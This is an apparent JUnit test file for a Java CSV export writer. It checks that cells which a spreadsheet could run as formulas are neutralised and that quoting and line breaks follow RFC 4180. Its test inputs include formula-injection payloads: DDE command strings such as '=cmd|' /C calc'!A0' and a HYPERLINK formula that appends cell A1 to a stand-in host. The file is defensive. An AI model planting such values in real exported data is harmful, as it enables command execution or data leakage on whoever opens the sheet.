package nl.stem.api.export;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The CSV writer every export uses: RFC 4180 and no cell a spreadsheet would run as a formula. */
class CsvTest {
    static final String HYPERLINK = "=HYPERLINK(\"http://x\"&A1,\"klik\")";

    static String write(boolean oneLine, Object... cells) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Csv.CsvWriter w = oneLine ? Csv.oneLinePerRow(out) : Csv.writer(out);
        w.row(cells);
        w.flush();
        return out.toString(StandardCharsets.UTF_8);
    }

    static List<String> parse(String csv) throws IOException {
        List<String> cells = new ArrayList<>();
        try (CSVParser p = CSVFormat.RFC4180.parse(new StringReader(csv))) {
            for (CSVRecord r : p) {
                r.forEach(cells::add);
            }
        }
        return cells;
    }

    @Test
    void neutralise_whenACellCouldStartAFormula_prefixesAnApostrophe() {
        assertEquals("'" + HYPERLINK, Csv.neutralise(HYPERLINK));
        assertEquals("'+31 6 12345678", Csv.neutralise("+31 6 12345678"));
        assertEquals("'-2+3+cmd|' /C calc'!A0", Csv.neutralise("-2+3+cmd|' /C calc'!A0"));
        assertEquals("'@SUM(1+1)", Csv.neutralise("@SUM(1+1)"));
        assertEquals("'\t=1+1", Csv.neutralise("\t=1+1"));
        assertEquals("'\r=1+1", Csv.neutralise("\r=1+1"));
        assertEquals("'- eerste punt", Csv.neutralise("- eerste punt"));
        assertEquals("'-", Csv.neutralise("-"));
        assertEquals("'-1e5", Csv.neutralise("-1e5"));
    }

    @Test
    void neutralise_whenPlainNumbersOrOrdinaryText_keepsThem() {
        assertEquals("-77", Csv.neutralise("-77"));
        assertEquals("-99", Csv.neutralise("-99"));
        assertEquals("-3.5", Csv.neutralise("-3.5"));
        assertEquals("42", Csv.neutralise("42"));
        assertEquals("", Csv.neutralise(""));
        assertEquals("a=b", Csv.neutralise("a=b"));
        assertEquals(" =1+1", Csv.neutralise(" =1+1"));
        assertEquals("أشعر بالأمان", Csv.neutralise("أشعر بالأمان"));
    }

    @Test
    void row_whenAMemberAttributeOrAnswerIsAFormula_writesItAsText() throws IOException {
        // A member attribute (region) and an open answer as a hostile spreadsheet user would write them.
        String line = write(false, "=cmd|' /C calc'!A0", HYPERLINK, -77, "-88", null, "Utrecht");
        assertEquals(List.of("'=cmd|' /C calc'!A0", "'" + HYPERLINK, "-77", "-88", "", "Utrecht"), parse(line));
        assertEquals("'=cmd|' /C calc'!A0,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"klik\"\")\",-77,-88,,Utrecht\r\n", line);
    }

    @Test
    void row_whenASemicolonOrTab_quotesTheCell() throws IOException {
        // Dutch Excel splits on ';': quoted, "a;=1+1" cannot become a cell "=1+1".
        assertEquals("\"a;=1+1\",\"b\t=2\",c\r\n", write(false, "a;=1+1", "b\t=2", "c"));
        assertEquals("\" padded \"\r\n", write(false, " padded "));
        assertEquals("\"\"\r\n", write(false, ""), "a row of one empty cell is not a blank line");
    }

    @Test
    void oneLinePerRow_whenLineBreaksInACell_writesLineSeparators() throws IOException {
        String text = "regel een\r\nregel \"twee\"\nregel drie\rvier";
        assertEquals("\"regel een\r\nregel \"\"twee\"\"\nregel drie\rvier\",x\r\n", write(false, text, "x"));
        String one = write(true, text, "x");
        assertEquals("\"regel een\u2028regel \"\"twee\"\"\u2028regel drie\u2028vier\",x\r\n", one);
        assertEquals(List.of("regel een\u2028regel \"twee\"\u2028regel drie\u2028vier", "x"), parse(one));
    }
}
